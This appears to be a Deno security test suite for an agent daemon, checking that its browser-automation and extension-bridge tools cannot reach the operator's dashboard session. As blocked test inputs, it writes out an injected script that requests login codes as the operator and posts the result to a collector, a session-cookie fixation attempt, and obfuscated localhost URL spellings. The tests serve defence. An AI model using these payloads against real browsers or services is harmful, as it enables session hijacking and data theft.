// Issue 33: the daemon's own origin is never a path to the operator's
// session through extension-bridge or browser-automation. The operator has
// logged in to the dashboard in the browser both servers attach to; a page
// of the daemon's origin carries that session, so a script there acts as
// the operator. Real daemon, real Chromium with the bridge's test extensions,
// the operator's own token as the caller (the rule holds for every caller),
// plus fast-check over spellings of the daemon's URL.

import assert from "node:assert/strict";
import { join } from "node:path";
import fc from "fast-check";
import puppeteer from "puppeteer-core";
import {
  daemonFetchPatterns,
  type DaemonOrigin,
  type DaemonPageMatcher,
  daemonPageMatcher,
  reachesDaemon,
} from "../../platform/daemon_origin.ts";
import {
  Client,
  StreamableHTTPClientTransport,
} from "../../platform/mcp_sdk.ts";
import { browserTestIgnore, CHROMIUM } from "../browser.ts";
import { spawnServe, tempDir, waitFor } from "../helpers.ts";
import { callTool } from "../tools/in-page/harness.ts";
import {
  freePort,
  prepareExtensions,
  startBrowser,
} from "../tools/extension-bridge/harness.ts";

const OPERATOR = "operator-token-0123456789abcdef";
const AGENT = "alice-token-0123456789abcdef";

async function connect(url: string, token = OPERATOR): Promise<Client> {
  const client = new Client({ name: "daemon-origin-test", version: "1" });
  await client.connect(
    new StreamableHTTPClientTransport(new URL(url), {
      requestInit: { headers: { authorization: `Bearer ${token}` } },
    }),
  );
  return client;
}

async function ok(
  client: Client,
  name: string,
  args: Record<string, unknown> = {},
): Promise<Record<string, unknown>> {
  const result = await callTool(client, name, args);
  assert.equal(result.isError, false, `${name} failed: ${result.text}`);
  return result.structured;
}

/** The targets of a Target.getTargets result. */
function targetsOf(value: unknown): { targetId: string; url: string }[] {
  if (
    typeof value !== "object" || value === null ||
    !("targetInfos" in value) || !Array.isArray(value.targetInfos)
  ) return [];
  return value.targetInfos.flatMap((info: unknown) =>
    typeof info === "object" && info !== null && "targetId" in info &&
      "url" in info && typeof info.targetId === "string" &&
      typeof info.url === "string"
      ? [{ targetId: info.targetId, url: info.url }]
      : []
  );
}

/**
 * Another local site (127.0.0.1, its own port): a page, a redirect to the
 * daemon, and a collector the injected script reports to.
 */
function startSite(daemonUrl: () => string) {
  const reports: string[] = [];
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    async (request) => {
      const path = new URL(request.url).pathname;
      if (path === "/collect") {
        reports.push(await request.text());
        return new Response("", {
          headers: { "access-control-allow-origin": "*" },
        });
      }
      if (path === "/to-daemon") {
        return Response.redirect(`${daemonUrl()}/health`, 302);
      }
      if (path === "/workers") {
        // Workers that run apart from the tab: shared workers (five: each is
        // a fresh start to race its fence), and a service worker, which
        // outlives the tab.
        return new Response(
          `<!doctype html><title>workers</title><script>for (let n = 0; n < 5; n++) new SharedWorker("/shared-worker.js?" + n);
navigator.serviceWorker.register("/service-worker.js");</script>`,
          { headers: { "content-type": "text/html" } },
        );
      }
      if (path === "/shared-worker.js" || path === "/service-worker.js") {
        // Reaches the daemon from its first line, and says whether it got
        // there ("opaque": an answer it may not read) or was stopped.
        const kind = path === "/shared-worker.js" ? "shared" : "service";
        const health = JSON.stringify(`${daemonUrl()}/health`);
        return new Response(
          `const report = (what) => fetch("/collect", { method: "POST", body: "worker ${kind} " + what });
fetch(${health}, { mode: "no-cors" }).then((r) => report(r.type), () => report("blocked"));`,
          { headers: { "content-type": "text/javascript" } },
        );
      }
      if (path === "/race") {
        // Reaches the daemon at once (an image), then sends the tab there
        // while the next step waits.
        const health = JSON.stringify(`${daemonUrl()}/health`);
        return new Response(
          `<!doctype html><title>race</title><script>new Image().src = ${health} + "?img";
setTimeout(() => { location.href = ${health}; }, 300);</script>`,
          { headers: { "content-type": "text/html" } },
        );
      }
      return new Response(
        "<!doctype html><title>site</title><p id=mark>the other site</p>",
        { headers: { "content-type": "text/html" } },
      );
    },
  );
  return {
    url: `http://127.0.0.1:${server.addr.port}`,
    reports,
    close: () => server.shutdown(),
  };
}

Deno.test({
  name:
    "security: extension-bridge and browser-automation never act in the daemon's own pages",
  ignore: browserTestIgnore,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await using dir = await tempDir();
    const extensions = await prepareExtensions();
    const browser = await startBrowser(freePort(), extensions);
    let daemonUrl = "";
    const site = startSite(() => daemonUrl);
    const config = join(dir.path, "agentd.json");
    await Deno.writeTextFile(
      config,
      JSON.stringify({
        servers: ["extension-bridge", "browser-automation"],
        "extension-bridge": {
          cdp_port: browser.port,
          cdp_allow: ["Target.*", "Storage.getCookies", "Storage.setCookies"],
        },
        "browser-automation": {
          cdp_port: browser.port,
          ...(CHROMIUM ? { executable: CHROMIUM } : {}),
        },
      }),
    );
    const daemon = await spawnServe(join(dir.path, "data"), {
      extra: ["--config", config],
      env: {
        AGENTD_TOKEN: OPERATOR,
        AGENTD_AGENT_TOKENS: JSON.stringify({ alice: AGENT }),
      },
    });
    daemonUrl = daemon.url;
    const user = await puppeteer.connect({
      browserURL: `http://127.0.0.1:${browser.port}`,
    });
    const clients: Client[] = [];
    try {
      // The operator logs in to the dashboard in this browser.
      const codes = await fetch(`${daemon.url}/dashboard/login-codes`, {
        method: "POST",
        headers: { authorization: `Bearer ${OPERATOR}` },
      });
      assert.equal(codes.status, 201, await codes.clone().text());
      const { login_path } = await codes.json();
      const dashboard = await user.newPage();
      await dashboard.goto(`${daemon.url}${login_path}`, { waitUntil: "load" });
      const session = (await user.cookies()).find((cookie) =>
        cookie.name === "agentd_session"
      );
      assert.ok(session, "the browser holds the dashboard session");

      const bridge = await connect(`${daemon.url}/mcp/extension-bridge`);
      clients.push(bridge);
      const automation = await connect(`${daemon.url}/mcp/browser-automation`);
      clients.push(automation);

      // 1. A content script for <all_urls> runs in another local page, never
      //    in the daemon's: there it would fetch as the operator.
      await ok(bridge, "inject_content_script", {
        extension_id: extensions.companion.id,
        matches: ["<all_urls>"],
        script: `fetch("/dashboard/login-codes", { method: "POST" })
          .then((r) => r.status, () => 0)
          .then((status) => fetch(${
          JSON.stringify(`${site.url}/collect`)
        }, { method: "POST", mode: "no-cors", body: location.href + " " + status }));`,
      });
      const daemonTab = await user.newPage();
      await daemonTab.goto(`${daemon.url}/health`, { waitUntil: "load" });
      // The page-world half of the runner is there: the runner had its turn.
      await waitFor(
        () =>
          daemonTab.evaluate(
            "document.documentElement.getAttribute('data-agentd-main')",
          ),
        (mark) => mark === "ready",
        30_000,
      );
      const siteTab = await user.newPage();
      await siteTab.goto(`${site.url}/`, { waitUntil: "load" });
      // The other site's report came after the daemon tab's runner had its turn.
      await waitFor(
        () => site.reports.some((report) => report.startsWith(site.url)),
        (reported) => reported,
        30_000,
      );
      assert.ok(
        !site.reports.some((report) => report.startsWith(daemon.url)),
        `the script ran in the daemon's page: ${site.reports}`,
      );
      await siteTab.close();

      // 2. bridge_cdp_command: no target or URL of the daemon, and the
      //    session cookie is not in the cookies an operator allowed.
      const cookies = await ok(bridge, "bridge_cdp_command", {
        command: "Storage.getCookies",
      });
      assert.ok(
        !JSON.stringify(cookies).includes("agentd_session") &&
          !JSON.stringify(cookies).includes(session.value),
        "the daemon's session cookie is never returned",
      );
      const created = await callTool(bridge, "bridge_cdp_command", {
        command: "Target.createTarget",
        params: { url: `http://localhost:${daemon.port}/health` },
      });
      assert.equal(created.isError, true, created.text);
      assert.match(created.text, /agentd's own origin/);
      const targets = await ok(bridge, "bridge_cdp_command", {
        command: "Target.getTargets",
      });
      const daemonTarget = targetsOf(targets.result).find((info) =>
        info.url.startsWith(`${daemon.url}/health`)
      );
      assert.ok(
        daemonTarget,
        `the daemon's tab is listed: ${JSON.stringify(targets)}`,
      );
      const attached = await callTool(bridge, "bridge_cdp_command", {
        command: "Target.attachToTarget",
        params: { targetId: daemonTarget.targetId },
      });
      assert.equal(attached.isError, true, attached.text);
      assert.match(attached.text, /agentd's own origin/);

      const relayed = await callTool(bridge, "bridge_cdp_command", {
        command: "Target.sendMessageToTarget",
        params: {
          sessionId: "any",
          message: JSON.stringify({
            id: 1,
            method: "Page.navigate",
            params: { url: `${daemon.url}/health` },
          }),
        },
      });
      assert.equal(relayed.isError, true, relayed.text);
      assert.match(relayed.text, /agentd's own origin/);
      const fixation = await callTool(bridge, "bridge_cdp_command", {
        command: "Storage.setCookies",
        params: {
          cookies: [{
            name: "agentd_session",
            value: "chosen-by-the-caller",
            domain: "localhost",
            path: "/",
          }],
        },
      });
      assert.equal(fixation.isError, true, fixation.text);
      assert.match(fixation.text, /agentd's own origin/);
      assert.ok(
        !(await user.cookies()).some((cookie) =>
          cookie.value === "chosen-by-the-caller"
        ),
      );

      // The dashboard is the only tab left: browser-automation opens a tab of
      // its own instead of taking the operator's (checked after section 3).
      for (const page of await user.pages()) {
        if (page !== dashboard) await page.close();
      }
      const dashboardUrl = dashboard.url();
      assert.ok(dashboardUrl.startsWith(daemon.url), dashboardUrl);

      // 3. browser-automation: navigate to any spelling of the daemon is
      //    refused before the page loads.
      for (
        const url of [
          `${daemon.url}/health`,
          `http://LOCALHOST.:${daemon.port}/dashboard`,
          `http://user:pw@127.0.0.2:${daemon.port}/`,
        ]
      ) {
        const refused = await callTool(automation, "navigate", { url });
        assert.equal(refused.isError, true, `${url}: ${refused.text}`);
        assert.match(refused.text, /agentd's own page/, url);
      }
      // A redirect there is refused too. The browser fails the request to
      // the daemon's origin (the tab's fence), so the tab shows Chrome's
      // error page, not the daemon's: nothing read or scripted there reaches
      // the daemon or shows anything of it.
      const redirected = await callTool(automation, "navigate", {
        url: `${site.url}/to-daemon`,
      });
      assert.equal(redirected.isError, true, redirected.text);
      assert.match(redirected.text, /agentd's own page/);
      const codesUrl = JSON.stringify(`${daemon.url}/dashboard/login-codes`);
      for (
        const [tool, args] of [
          ["execute_js", {
            script:
              `(await fetch(${codesUrl}, { method: 'POST', credentials: 'include' })).status`,
          }],
          ["get_text", { selector: "body" }],
          ["get_html", {}],
          ["snapshot", {}],
        ] as const
      ) {
        const result = await callTool(automation, tool, args);
        assert.ok(!/login_path|"status"/.test(result.text), tool);
      }
      const scripted = await callTool(automation, "execute_js", {
        script:
          `(await fetch(${codesUrl}, { method: 'POST', credentials: 'include' })).status`,
      });
      assert.equal(scripted.isError, true, scripted.text);
      assert.match(scripted.text, /Failed to fetch/);
      const listed = await ok(automation, "get_cookies", {});
      assert.ok(!JSON.stringify(listed).includes("agentd_session"));
      // Elsewhere the tools work as before.
      await ok(automation, "navigate", { url: `${site.url}/` });
      const title = await ok(automation, "execute_js", {
        script: "document.title",
      });
      assert.equal(title.result, "site");

      // 3b. A page that sends the tab onto the daemon while a step waits:
      //     the browser fails every request to the daemon's origin, so none
      //     of its pages loads there for the waiting step to act on.
      const race = await callTool(automation, "navigate", {
        url: `${site.url}/race`,
      });
      assert.equal(race.isError, false, race.text);
      assert.match(race.text, /tried to reach agentd's own origin/);
      const raced = await callTool(automation, "wait_for", {
        selector: "pre",
        timeout: 1500,
      });
      assert.equal(raced.isError, true, raced.text);
      assert.match(raced.text, /agentd's own page/);
      // The agent's tab: Chrome's error page, where without the fence the
      // daemon's /health would be.
      const tabs = await user.pages();
      const tab = tabs.find((page) =>
        page.url() === `${daemon.url}/health` ||
        page.url().startsWith("chrome-error:")
      );
      assert.ok(tab, tabs.map((page) => page.url()).join());
      assert.notEqual(tab.url(), `${daemon.url}/health`);
      const shown = String(
        await tab.evaluate('document.body ? document.body.innerText : ""'),
      );
      assert.ok(!shown.includes('"status"'), shown);
      assert.match(shown, /ERR_BLOCKED_BY_CLIENT/);
      assert.equal(
        dashboard.url(),
        dashboardUrl,
        "the operator's tab is theirs",
      );
      // Sent there between two calls: the next call's result says so.
      const again = await callTool(automation, "navigate", {
        url: `${site.url}/race`,
      });
      assert.equal(again.isError, false, again.text);
      await waitFor(
        async () =>
          (await user.pages()).some((page) =>
            page.url().startsWith("chrome-error:")
          ),
        (blocked) => blocked,
      );
      const after = await callTool(automation, "get_text", {
        selector: "body",
      });
      assert.match(
        after.text,
        /Between calls, the page tried to go to agentd's own page/,
      );

      // 3c. A page that leaves workers behind it (one its tab's fence does not
      //     see): each is fenced before its first line runs. Sent there by
      //     an agent-bound caller, in a tab of its own.
      const agent = await connect(
        `${daemon.url}/mcp/browser-automation`,
        AGENT,
      );
      clients.push(agent);
      const started = await callTool(agent, "navigate", {
        url: `${site.url}/workers`,
      });
      assert.equal(started.isError, false, started.text);
      const workerReports = () =>
        site.reports.filter((report) => report.startsWith("worker ")).sort();
      await waitFor(workerReports, (reports) => reports.length >= 6, 30_000);
      assert.deepEqual(workerReports(), [
        "worker service blocked",
        ...Array(5).fill("worker shared blocked"),
      ]);
      // The fences are the driven tabs' and the workers': the operator's own
      // dashboard tab in the same browser still reaches the daemon, loaded
      // again under the browser-wide one.
      await dashboard.reload({ waitUntil: "load" });
      assert.equal(dashboard.url(), dashboardUrl);
      assert.equal(
        await dashboard.evaluate(
          `fetch("/health", { cache: "no-store" }).then((response) => response.status)`,
        ),
        200,
      );

      // 4. An extension shipping a runner without the daemon check (an old
      //    copy): the registration excludes every host that reaches the
      //    daemon, in pattern forms Chromium takes (no port), and says so.
      const runner = join(extensions.companion.path, "agentd_runner.js");
      const current = await Deno.readTextFile(runner);
      assert.ok(current.includes("agentd-daemon-check/1"));
      await Deno.writeTextFile(
        runner,
        current.replaceAll("agentd-daemon-check/1", "no-check"),
      );
      const fallback = await ok(bridge, "inject_content_script", {
        extension_id: extensions.companion.id,
        matches: ["http://127.0.0.1/*"],
        script: "void 0;",
      });
      const excluded = fallback.excluded_matches;
      assert.ok(Array.isArray(excluded), JSON.stringify(fallback));
      for (const pattern of ["*://127.0.0.1/*", "*://[::1]/*"]) {
        assert.ok(excluded.includes(pattern), `${pattern}: ${excluded}`);
      }
      const registered = await ok(bridge, "execute_extension_action", {
        extension_id: extensions.companion.id,
        action: "list_content_scripts",
      });
      const scripts = Array.isArray(registered.result) ? registered.result : [];
      const script = scripts.find((item: unknown) =>
        typeof item === "object" && item !== null && "id" in item &&
        item.id === fallback.script_id
      );
      assert.ok(
        typeof script === "object" && script !== null &&
          "excludeMatches" in script,
        JSON.stringify(registered.result),
      );
      assert.deepEqual(
        [...new Set(script.excludeMatches)].sort(),
        [...new Set(excluded)].sort(),
      );
      // That runner hands over every stored script: the earlier
      // registrations are excluded there too.
      assert.equal(scripts.length, 4, JSON.stringify(scripts));
      for (const item of scripts) {
        assert.ok(
          JSON.stringify(item).includes('"*://127.0.0.1/*"'),
          JSON.stringify(item),
        );
      }

      // The operator's session is untouched.
      assert.ok(
        (await user.cookies()).some((cookie) =>
          cookie.name === "agentd_session" && cookie.value === session.value
        ),
      );
    } finally {
      for (const client of clients) await client.close().catch(() => {});
      await user.disconnect().catch(() => {});
      await daemon.stop();
      await site.close();
      await browser.close();
      await Deno.remove(extensions.dir, { recursive: true });
    }
  },
});

/** How Chromium matches a CDP `Fetch` URL pattern: `*` any run, `?` one character, the whole URL. */
function fetchPatternMatches(pattern: string, url: string): boolean {
  const source = [...pattern].map((c) =>
    c === "*" ? ".*" : c === "?" ? "." : c.replace(/[.+^${}()|[\]\\]/g, "\\$&")
  ).join("");
  return new RegExp(`^${source}$`).test(url);
}

/** How extension/agentd_runner.js reads a matcher (the runner is plain JS in other extensions). */
function runnerRefuses(matcher: DaemonPageMatcher, href: string): boolean {
  const url = new URL(href);
  if (url.protocol !== "http:" && url.protocol !== "https:") return false;
  const port = url.port !== ""
    ? Number(url.port)
    : url.protocol === "https:"
    ? 443
    : 80;
  const host = url.hostname.toLowerCase().replace(/\.$/, "");
  return matcher.ports.includes(port) && new RegExp(matcher.host).test(host);
}

Deno.test("security: every spelling of the daemon's URL reaches its origin", () => {
  const mixCase = (text: string) =>
    fc.array(fc.boolean(), { minLength: text.length, maxLength: text.length })
      .map((upper) =>
        [...text].map((c, i) => upper[i] ? c.toUpperCase() : c).join("")
      );
  const octet = fc.integer({ min: 0, max: 255 });
  const host = fc.oneof(
    mixCase("localhost"),
    mixCase("app.localhost"),
    fc.tuple(octet, octet, octet).map(([a, b, c]) => `127.${a}.${b}.${c}`),
    fc.constantFrom(
      "[::1]",
      "[0:0:0:0:0:0:0:1]",
      "[::ffff:127.0.0.1]",
      "[::FFFF:7f00:1]",
      "0.0.0.0",
      "2130706433", // 127.0.0.1 as one number
      "0x7f.1",
      "0177.0.0.1",
      "%6c%6fcalhost",
      "127.1",
    ),
    fc.constantFrom("agentd.example", "AGENTD.example"),
  );
  const spelling = fc.record({
    scheme: fc.constantFrom("http", "https", "HTTP", "ws"),
    userinfo: fc.constantFrom("", "user@", "user:pw@", "evil.example@"),
    host,
    dot: fc.constantFrom("", "."),
    port: fc.constantFrom("explicit", "default"),
    path: fc.constantFrom("/", "/health", "/dashboard?x=1", "/%2e%2e/admin"),
    daemonPort: fc.constantFrom(80, 443, 8765, 41_234),
  });
  fc.assert(
    fc.property(spelling, (s) => {
      const secure = /^(https|wss)$/i.test(s.scheme);
      const daemon: DaemonOrigin = {
        ports: [s.daemonPort],
        hosts: ["agentd.example"],
      };
      const defaultPort = secure ? 443 : 80;
      const port = s.port === "explicit"
        ? `:${s.daemonPort}`
        : s.daemonPort === defaultPort
        ? ""
        : `:${s.daemonPort}`;
      // A bracketed IPv6 address takes no trailing dot.
      const dot = s.host.startsWith("[") ? "" : s.dot;
      const url = `${s.scheme}://${s.userinfo}${s.host}${dot}${port}${s.path}`;
      assert.ok(reachesDaemon(url, daemon), url);
      // Another port of the same host is another site.
      const other = url.replace(
        /^([^:]+:\/\/[^/]*?)(:\d+)?(\/)/,
        `$1:${s.daemonPort + 1}$3`,
      );
      assert.ok(!reachesDaemon(other, daemon), other);
      // The content script runner refuses the same pages (pages are http(s)),
      // and browser-automation's fence pauses the requests for them (the
      // browser matches its patterns against the parsed URL).
      if (/^https?$/i.test(s.scheme)) {
        const matcher = daemonPageMatcher(daemon);
        assert.ok(runnerRefuses(matcher, url), `runner: ${url}`);
        assert.ok(!runnerRefuses(matcher, other), `runner: ${other}`);
        const href = new URL(url).href;
        assert.ok(
          daemonFetchPatterns(daemon).some((pattern) =>
            fetchPatternMatches(pattern, href)
          ),
          `fence: ${href}`,
        );
      }
    }),
    { numRuns: 1000 },
  );
  // Names that only look alike are not the daemon.
  const daemon: DaemonOrigin = { ports: [8765], hosts: ["agentd.example"] };
  for (
    const url of [
      "http://localhost.evil.example:8765/",
      "http://127.0.0.1.evil.example:8765/",
      "http://evil.example:8765/?u=http://127.0.0.1:8765/",
      "http://xagentd.example:8765/",
      "http://128.0.0.1:8765/",
      "file:///127.0.0.1:8765/",
    ]
  ) {
    assert.ok(!reachesDaemon(url, daemon), url);
    assert.ok(
      !runnerRefuses(daemonPageMatcher(daemon), url),
      `runner: ${url}`,
    );
  }
});
